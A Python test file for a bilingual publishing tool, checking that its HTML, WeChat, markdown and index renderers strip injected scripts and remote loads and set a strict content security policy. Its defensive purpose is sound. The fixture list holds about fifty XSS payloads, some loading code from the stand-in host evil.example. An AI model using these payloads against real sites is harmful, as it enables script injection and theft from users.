"""Whatever an author or a translator writes, no output runs code or accesses another host."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest
from lxml import html

from bilingual.model.bitext import Bitext, Unit
from bilingual.model.transcript import EngineRecord, Transcript, Word
from bilingual.views.document.converting.from_transcript import document_from_transcript
from bilingual.views.document.markdown import parallel_md
from bilingual.views.document.model import Document
from bilingual.views.index.render import Folder, PreviewFile, PreviewPlayer, PreviewTrack
from bilingual.views.index.render import render as render_index
from bilingual.views.jekyll.safe_markdown import sanitised_markdown
from bilingual.views.linkedin.render import linkedin_text
from bilingual.views.parallel.render import parallel_html
from bilingual.views.wechat.render import wechat_html, wechat_preview_html
from bilingual.views.wechat.rules import lost_markup
from tests.views import readers

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    '![x](x.png"onerror="alert(1))',
    "![\" onerror=\"alert(1)](x.png)",
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0" id="page-facts" class="bar" onclick="alert(1)">x</p>',
    "<style>@import url(//evil.example/x.css);</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input autofocus onfocus=alert(1)></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<video src="https://evil.example/v.mp4" onerror="alert(1)"><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p>unclosed <b <script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</span></p></main><script>alert(1)</script>",
    "<ruby onclick=alert(1)>字<rt onclick=alert(1)>zì</rt></ruby>",
    "`</code><script>alert(1)</script>`",
    "$</span><script>alert(1)</script>$",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip
FRAMES = ("A word, {} and more.", "# Title {}\n\nText {}", "- item {}\n", "| a |\n|---|\n| {} |\n", "{}\n\nText.")


def dangers(page: str) -> Iterator[str]:
    """Yield what in *page* could run or load something."""
    return readers.dangers(html.document_fromstring(page))


def page_of(title: str, **facts: Any) -> str:
    """Return the page of a results folder."""
    return str(render_index(Folder(title, **facts)).files["index.html"])


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_in_an_article_reaches_a_page(attack: str, document_of: Callable[..., Document]) -> None:
    for frame in FRAMES:
        _reaches_no_page(frame.replace("{}", attack), attack, document_of)


def _reaches_no_page(text: str, attack: str, document_of: Callable[..., Document]) -> None:
    once = document_of(text)
    # The translator answers with the attack as well.
    sentences = {unit.plain: f"译文 {attack}" for unit in _segments(text)}
    for document in (once, document_of(text, sentences)):
        assert list(dangers(parallel_html(document))) == []
        for part in wechat_html(document).parts:
            found = [danger for danger in dangers(part.html) if not danger.startswith("loads ")]
            assert found == []
            assert list(lost_markup(part.html)) == []
        assert [danger for danger in dangers(wechat_preview_html(wechat_html(document))) if "loads" not in danger] == []
        assert list(dangers(readers.markdown_page(parallel_md(document)))) == []
        assert "\x00" not in linkedin_text(document).text


def _segments(text: str) -> Any:
    from bilingual.articles.markdown import parse_markdown

    return parse_markdown(text, "en").segments


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_in_an_html_article_reaches_a_page(attack: str, document_of: Callable[..., Document]) -> None:
    document = document_of(f"<article><h1>T {attack}</h1><p>Some words {attack} here.</p>{attack}</article>")
    assert list(dangers(parallel_html(document))) == []
    for part in wechat_html(document).parts:
        assert [danger for danger in dangers(part.html) if not danger.startswith("loads ")] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_in_a_talk_or_its_names_reaches_a_page(attack: str) -> None:
    text = " ".join(attack.replace("\x00", "").split()) or "x"
    words = tuple(Word(word, i * 100, i * 100 + 90) for i, word in enumerate(text.split()))
    transcript = Transcript("en", 9000, words, ((0, len(words)),), EngineRecord("test"))
    bitext = Bitext("en", "de", (Unit("u", text, text, (0, len(words))),))
    document = document_from_transcript(transcript, bitext, text, title_target=text)
    assert list(dangers(parallel_html(document, video=attack.replace("\x00", "") + ".mp4"))) == []
    page = page_of(
        attack,
        state="ready",
        files=[PreviewFile(attack)],
        player=PreviewPlayer(attack, (PreviewTrack("en", attack, attack, ((0, 1000, attack),)),)),
        notes=[attack],
    )
    assert list(dangers(page)) == []


LOADED = ("<source>", "<math>", "loads ")  # the media and formulas of an author's own blog


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_in_markdown_reaches_a_blog_post(attack: str) -> None:
    for text in (frame.replace("{}", attack) for frame in FRAMES):
        made = sanitised_markdown(text)
        found = [danger for danger in dangers(readers.markdown_page(made.text)) if not danger.startswith(LOADED)]
        assert [danger for danger in found if not danger.startswith("src=data:image/")] == [], text
        assert sanitised_markdown(made.text).text == made.text, text


@pytest.mark.parametrize(
    "text",
    [
        "A [link](https://example.org/a_(b)) and ![image](data:image/png;base64,iVBORw0KGgo=) <kbd>Ctrl</kbd>.\n",
        "```html\n<script>alert(1)</script>\n```\n\nUse `<iframe>` or ``<a href=javascript:x>``.\n",
        '<details open>\n<summary>More</summary>\n\n<p align="center" style="color:red">once = on</p>\n</details>\n',
        '<video src="talk.mp4" poster="cover.png" controls></video> {% include player.html src="x" %} a < b > c\n',
        "[ref]: https://example.org 'Title'\n\n    <script>indented code is text too</script>\n",
    ],
)
def test_what_runs_nothing_stays_to_the_byte(text: str) -> None:
    safe = sanitised_markdown(text)
    if "indented" in text:  # written as text or left out: never as a script
        assert "<script" not in safe.text
    else:
        assert (safe.text, dict(safe.taken)) == (text, {})


def test_what_a_blog_post_leaves_out_is_counted() -> None:
    made = sanitised_markdown(
        'One <script>a()</script><script>b()</script>\n\n<iframe src="https://video.example/7"></iframe>\n\n[x](javascript:y)\n'
    )
    assert made.text == ('One \n\n<a href="https://video.example/7">https://video.example/7</a>\n\n[x](#)\n')
    assert str(made) == "2 script elements, 1 frame, 1 address"


def test_the_page_forbids_what_it_does_not_hold(document: Document) -> None:
    page = parallel_html(document)
    policy = html.document_fromstring(page).find(".//meta[@http-equiv='Content-Security-Policy']").get("content")
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy


def test_the_policy_names_the_scripts_and_styles_that_are_there(document: Document) -> None:
    from base64 import b64encode
    from hashlib import sha256

    page = parallel_html(document)
    for tag in ("style", "script"):
        inner = re.search(f"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        assert inner is not None
        assert f"'sha256-{b64encode(sha256(inner[1].encode()).digest()).decode()}'" in page


def test_images_come_only_from_where_the_caller_says(document_of: Callable[..., Document]) -> None:
    document = document_of("![one](a.png) ![two](b.png) ![three](c.png)\n\nText here.")
    images = {
        "a.png": "../img/a.png",
        "b.png": "data:image/png;base64,iVBORw0KGgo=",
        "c.png": "data:text/html;base64,PHNjcmlwdD4=",
    }
    sources = html.document_fromstring(parallel_html(replace(document, images=images))).xpath("//img/@src")
    assert set(sources) == {"../img/a.png", "data:image/png;base64,iVBORw0KGgo="}
